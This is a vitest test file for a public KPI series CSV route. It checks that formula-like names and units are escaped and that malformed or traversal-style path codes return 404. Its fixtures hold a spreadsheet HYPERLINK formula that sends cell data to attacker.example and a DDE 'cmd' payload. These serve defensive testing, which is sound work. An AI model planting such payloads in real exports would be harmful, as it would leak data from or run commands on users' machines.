// Attacks on the public CSV download (app/p/[slug]/kpis/[code]/series.csv), issue 13:
// item 10, an officer names a published KPI so that it runs as a formula in residents' spreadsheets;
// item 14, a doubly-encoded path that used to throw in a second decoding (500).
import Papa from "papaparse";
import { beforeAll, describe, expect, test } from "vitest";
import { GET as publicSeriesCsv } from "@/app/p/[slug]/kpis/[code]/series.csv/route";
import { getPrisma } from "@/lib/db";
import { setPublished } from "@/lib/dal/publishing";
import { createFixtureAgency, snapshotAgency, type Fixture } from "./support/fixtures";

const KPI = "permits.median_days";
const FORMULA_NAME = '=HYPERLINK("https://attacker.example/?"&A1,"Click for details")';
const FORMULA_UNIT = "+cmd|' /C calc'!A0";

let fixture: Fixture;

/** Calls the route as Next.js does: the path's segments arrive decoded once. */
function download(slug: string, code: string) {
  return publicSeriesCsv(new Request(`http://localhost/p/${slug}/kpis/${code}/series.csv`), {
    params: Promise.resolve({ slug, code }),
  });
}

describe("the public series CSV", () => {
  beforeAll(async () => {
    fixture = await createFixtureAgency("Formula City");
    const id = fixture.kpis[KPI]!;
    await getPrisma().kpi.update({ where: { id }, data: { name: FORMULA_NAME, unit: FORMULA_UNIT } });
    const { version } = await getPrisma().kpi.findUniqueOrThrow({ where: { id }, select: { version: true } });
    await setPublished(fixture.principal("PERFORMANCE_OFFICER"), { kind: "kpi", id, version, published: true });
  });

  test("writes a name or unit that starts like a formula as text, not as a formula", async () => {
    const before = await snapshotAgency(fixture.agencyId);
    const response = await download(fixture.slug, KPI);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const text = await response.text();
    const [header, ...rows] = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(header).toEqual(["kpi", "name", "unit", "period", "value", "target"]);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(row[0]).toBe(KPI);
      // The apostrophe makes a spreadsheet show the cell as text; the text itself is intact after it.
      expect(row[1]).toBe(`'${FORMULA_NAME}`);
      expect(row[2]).toBe(`'${FORMULA_UNIT}`);
    }
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
    expect(await snapshotAgency(fixture.agencyId)).toEqual(before);
  });

  test("a doubly-encoded code (/kpis/%25E0/series.csv arrives as %E0) is not found, not a server error", async () => {
    const before = await snapshotAgency(fixture.agencyId);
    for (const code of ["%E0", "%", "%2E%2E", `${KPI}%00`, "..", "a/b", "x".repeat(101)]) {
      const response = await download(fixture.slug, code);
      expect(response.status, code).toBe(404);
      expect(await response.text()).toBe("Not found\n");
    }
    expect(await snapshotAgency(fixture.agencyId)).toEqual(before);
  });
});
